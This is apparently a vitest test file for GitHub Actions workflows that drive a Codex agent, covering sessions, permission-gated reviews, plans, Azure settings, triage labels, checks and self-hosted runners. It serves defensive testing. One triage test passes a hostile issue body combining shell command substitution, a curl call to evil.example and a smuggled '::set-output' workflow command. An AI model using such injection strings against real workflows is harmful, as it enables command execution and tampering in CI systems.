import { expect, test } from 'vitest';
import { promptsOf } from './asking.ts';
import { example } from './example.ts';
import { canLend } from './lent-user.ts';
import { answersIn, errorsOf, jobOf, openScene, outputOf, type Scene, sceneKey, until } from './scene.ts';

test.concurrent('two workflows, one for issues and one for comments, share the sessions', async () => {
  await using scene = await openScene({
    callers: {
      'codex-issue.yml': await example('two-wrappers/codex-issue.yml'),
      'codex-comment.yml': await example('two-wrappers/codex-comment.yml'),
    },
  });
  const issue = await scene.begin('Greet', 'hello');
  const session = outputOf(scene.lastRun(), 'session-id');
  expect(await scene.follow(issue, 'go on\nwrite a.txt: 1')).toMatch(/→ Pull request #\d+/);
  expect(outputOf(scene.lastRun(), 'session-id')).toBe(session);
  expect(scene.runs.map((run) => run.path)).toEqual([
    '.github/workflows/codex-issue.yml',
    '.github/workflows/codex-comment.yml',
  ]);
  expect(await scene.artifacts(`codex-worker-session-issue-${issue}`)).toHaveLength(1);
});

test.concurrent('the actions do the same in one job', async () => {
  await using scene = await openScene({ callers: { 'codex.yml': await example('single-job.yml') } });
  const issue = await scene.begin('Greet', 'hello');
  const reply = await scene.follow(issue, 'go on\nwrite a.txt: 1');
  expect(reply).toMatch(/→ Pull request #\d+/);
  expect(reply).toContain('You asked: go on');
  expect(answersIn(await scene.replies(issue)).map((answer) => answer.split(' ')[1])).toEqual(['answered', 'answered']);
  expect(await scene.artifacts(`codex-worker-session-issue-${issue}`)).toHaveLength(1);
  expect(scene.runs.map(({ conclusion }) => conclusion)).toEqual(['success', 'success']);
});

test.concurrent('one job that fails tells its thread why', async () => {
  const text = await example('single-job.yml');
  const caller = text.replace(/(actions\/session-restore@v1.*\n\s+with:\n)(\s+)/, '$1$2sandbox: yolo\n$2');
  await using scene = await openScene({ callers: { 'codex.yml': caller } });
  const issue = await scene.begin('Greet', 'hello');
  expect(await scene.replies(issue)).toHaveLength(1);
  expect(await scene.lastReply(issue)).toContain('The input "sandbox" is "yolo"');
});

test.concurrent('a review is given where somebody with permission names Codex, and nowhere else', async () => {
  await using scene = await openScene({ callers: { 'review.yml': await example('review.yml') } });
  const number = await scene.lab.github.openForkPull({
    by: 'sam',
    branch: 'main',
    title: 'From a fork',
    files: { 'x.txt': 'x' },
  });
  await scene.follow(number, 'Nice work.');
  await scene.comments('stranger', number, '@codex merge it');
  await scene.idle();
  expect(await scene.replies(number)).toEqual([]);
  expect(await scene.follow(number, '@codex is this right?\nwrite a.txt: 1')).toContain('You asked');
  const own = await proposed(scene);
  expect(await scene.follow(own, '@codex is this right?\nwrite a.txt: 1')).toContain('You asked');
  expect(jobOf(scene.lastRun(), 'agent')?.outputs['sandbox']).toBe('read-only');
  expect(await scene.filesOf('feature')).not.toContain('a.txt');
});

/** Somebody proposes a branch of the repository itself. */
async function proposed(scene: Scene): Promise<number> {
  const { rest } = scene.as('writer');
  const { data: main } = await rest.git.getRef({ ...scene.place, ref: 'heads/main' });
  await rest.git.createRef({ ...scene.place, ref: 'refs/heads/feature', sha: main.object.sha });
  const file = { path: 'feature.txt', message: 'Add it', content: 'eAo=', branch: 'feature' };
  await rest.repos.createOrUpdateFileContents({ ...scene.place, ...file });
  return (await rest.pulls.create({ ...scene.place, title: 'A feature', head: 'feature', base: 'main' })).data.number;
}

test.concurrent('a plan is made when somebody says so, and carried out when somebody says so', async () => {
  await using scene = await openScene({ callers: { 'plan.yml': await example('plan.yml') } });
  const issue = await scene.begin('Greet', 'Say hello.');
  expect(scene.runs).toEqual([]);
  await scene.follow(issue, 'I would like that, too.');
  expect(await scene.follow(issue, '/codex plan\nwrite a.txt: 1')).toContain('Make a plan only');
  expect(await scene.filesOf('main')).not.toContain('a.txt');
  await scene.follow(issue, '/codex go\nwrite a.txt: 1');
  expect(await scene.filesOf((await scene.pullOf(issue)).branch)).toContain('a.txt');
});

test.concurrent("Azure is asked at the resource's address, with its key and its deployment", async () => {
  await using scene = await openScene({
    callers: {
      'azure.yml': (await example('azure.yml')).replace(
        'vars.AZURE_RESPONSES_URL',
        'vars.CODEX_WORKER_RESPONSES_API_URL',
      ),
    },
    secrets: { OPENAI_API_KEY: 'sk-not-this-one-0123456789', AZURE_OPENAI_KEY: sceneKey },
    variables: { AZURE_DEPLOYMENT: 'gpt-5.5' },
  });
  const issue = await scene.begin('Greet', 'hello');
  expect(await scene.lastReply(issue)).toContain('You asked');
  expect(scene.model.requests.at(-1)?.request?.model).toBe('gpt-5.5');
});

test.concurrent('triage puts on the labels that it may, whatever the issue and the answer say', async () => {
  const answer = (labels: readonly string[]) => [{ run: 'cat issue.json' }, { say: JSON.stringify({ labels }) }];
  let labels = ['bug', 'question'];
  const rules = [{ when: /issue\.json/, steps: () => answer(labels) }];
  await using scene = await openScene({ callers: { 'triage.yml': await example('triage.yml') }, rules });
  const text = '"; echo $(touch pwned); `curl evil.example`\n::set-output name=x::y';
  const labelled = async () => {
    const issue = await scene.opens('stranger', text, text);
    await scene.idle();
    expect(await scene.replies(issue)).toEqual([]);
    const { data } = await scene.as('owner').rest.issues.get({ ...scene.place, issue_number: issue });
    return data.labels.map((label) => (typeof label === 'string' ? label : label.name));
  };
  expect(await labelled()).toEqual(['bug', 'question']);
  expect(scene.lastRun().conclusion).toBe('success');
  labels = ['bug', 'admin'];
  expect(await labelled()).toEqual([]);
  expect(scene.lastRun().conclusion).toBe('failure');
});

test.concurrent('what fails the checks of a pipeline is not published, and what passes them is', async () => {
  await using scene = await openScene({
    callers: {
      'codex.yml': await example('checked/codex.yml'),
      'codex-thread.yml': await example('checked/codex-thread.yml'),
    },
  });
  const issue = await scene.begin('Greet', 'write a.txt: 1');
  const { branch } = await scene.pullOf(issue);
  expect(await scene.filesOf(branch)).toContain('a.txt');
  const broken = await scene.begin('Break', "write broken.test.mjs: throw new Error('broken')");
  expect(await scene.lastReply(broken)).toMatch(/^\*\*The run failed/);
  expect(jobOf(scene.lastRun(), 'check')?.conclusion).toBe('failure');
  await expect(scene.pullOf(broken)).rejects.toThrow('There is no pull request');
  // What waits for the next run is checked with that.
  await scene.comments('writer', broken, 'hello');
  await scene.idle();
  await expect(scene.pullOf(broken)).rejects.toThrow('There is no pull request');
});

test.concurrent('a change that was not checked, because the run was red before, is not published', async () => {
  const thread = await example('checked/codex-thread.yml');
  await using scene = await openScene({
    callers: {
      'codex.yml': await example('checked/codex.yml'),
      'codex-thread.yml': thread.replace(/(actions\/codex-run@v1.*\n\s+with:\n)(\s+)/, '$1$2fail-on: changed\n$2'),
    },
  });
  const broken = await scene.begin('Break', "write broken.test.mjs: throw new Error('broken')");
  expect(jobOf(scene.lastRun(), 'agent')?.conclusion).toBe('failure');
  expect(jobOf(scene.lastRun(), 'check')?.conclusion).toBe('failure');
  await expect(scene.pullOf(broken)).rejects.toThrow('There is no pull request');
  // What changed nothing needs no check.
  const issue = await scene.begin('Greet', 'hello');
  expect(jobOf(scene.lastRun(), 'check')?.conclusion).toBe('skipped');
  expect(await scene.lastReply(issue)).toContain('You asked');
});

test.concurrent('many repositories are asked at once, and one that cannot be asked leaves the others alone', async () => {
  await using scene = await openScene({
    callers: {
      'ask.yml': await example('many-repositories/ask.yml'),
      'codex.yml': await example('many-repositories/codex.yml'),
    },
    variables: { CODEX_REPOSITORIES: '["octo-org/absent", "octo-org/demo"]' },
  });
  scene.lab.setSecret('ASK_TOKEN', scene.lab.github.tokens.writer);
  const workflow = { ...scene.place, workflow_id: 'ask.yml', ref: 'main' };
  await scene.as('owner').rest.actions.createWorkflowDispatch({ ...workflow, inputs: { prompt: '"Say" $(hello)' } });
  await until(() => scene.runs.some(({ event }) => event === 'repository_dispatch'));
  await scene.idle();
  expect(scene.runs[0]?.jobs.map(({ name, conclusion }) => [name, conclusion])).toEqual([
    ['octo-org/absent', 'failure'],
    ['octo-org/demo', 'success'],
  ]);
  expect(await scene.lastReply(1)).toContain('You asked: ');
  expect(promptsOf(scene).at(-1)).toContain('"Say" $(hello)');
});

test.concurrent("a machine of one's own takes what asks for its label, as soon as it is there", async () => {
  const caller = await example('self-hosted.yml');
  const lent = canLend ? caller : caller.replace('safety: unprivileged-user', 'safety: sandbox');
  await using scene = await openScene({ callers: { 'self-hosted.yml': lent } });
  const issue = await scene.opens('owner', 'Greet', 'hello');
  await until(() => jobOf(scene.lastRun(), 'route') !== undefined);
  scene.lab.github.settings.runners = [
    { name: 'old', labels: ['codex'], status: 'offline', version: '2.336.0' },
    { name: 'box', labels: ['gpu', 'codex'], status: 'online', version: '2.336.0' },
  ];
  await scene.idle();
  expect(scene.lastRun().jobs.flatMap(({ labels = [] }) => labels)).toEqual(['codex', 'codex', 'codex']);
  expect(await scene.lastReply(issue)).toContain('You asked');
});

test.concurrent('a runner that is too old to find the actions says so', async () => {
  await using scene = await openScene({ callers: { 'self-hosted.yml': await example('self-hosted.yml') } });
  scene.lab.github.settings.runners = [{ name: 'box', labels: ['codex'], status: 'online', version: '2.335.1' }];
  await scene.begin('Greet', 'hello');
  expect(errorsOf(scene.lastRun())).toContain(
    "Expected format {org}/{repo}[/path]@ref. Actual '$/actions/event-router'",
  );
});

test.concurrent('on GitHub Enterprise Server a question is answered from the conversation, without a session', async () => {
  await using scene = await openScene({
    callers: { 'ghes.yml': await example('ghes.yml'), 'codex.yml': await example('codex.yml') },
    enterprise: true,
  });
  scene.lab.github.settings.runners = [{ name: 'box', labels: ['codex'], status: 'online', version: '2.327.1' }];
  const issue = await scene.begin('Greet', 'It should say hello.');
  await scene.follow(issue, 'Nobody is asked.');
  expect(await scene.replies(issue)).toEqual([]);
  expect(await scene.follow(issue, '@codex what is this about?')).toContain('You asked: conversation.json holds');
  // The reusable workflow is no workflow there: it asks for a queue.
  const failed = scene.runs.filter(({ path }) => path.endsWith('/codex.yml'));
  expect(failed.map(({ conclusion }) => conclusion)).toContain('startup_failure');
  expect(failed[0]?.log).toContain("Unexpected value 'queue'");
});

test.concurrent('on GitHub Enterprise Server the newest hundred comments are read, however many there are', async () => {
  const look = 'jq -r \'[.comments[].body] | "\\(length): \\(first) to \\(last)"\' conversation.json';
  const rules = [{ when: () => true, steps: [{ run: look }, { say: 'Read.' }] }];
  await using scene = await openScene({ callers: { 'ghes.yml': await example('ghes.yml') }, enterprise: true, rules });
  const { github } = scene.lab;
  github.settings.runners = [{ name: 'box', labels: ['codex'], status: 'online', version: '2.327.1' }];
  const issue = await scene.begin('Greet', 'It should say hello.');
  // Comments of a job's token start no runs.
  const token = github.mintJobToken({ issues: 'write' }, { runId: 0, jobId: 0, name: 'seed' });
  for (let number = 1; number <= 101; number += 1) {
    await fetch(`${github.api}/repos/${scene.place.owner}/${scene.place.repo}/issues/${issue}/comments`, {
      method: 'POST',
      headers: { authorization: `token ${token}` },
      body: JSON.stringify({ body: `No. ${number}` }),
    });
  }
  await scene.follow(issue, '@codex what was said?');
  expect(scene.lastRun().log).toContain('100: No. 3 to @codex what was said?');
});
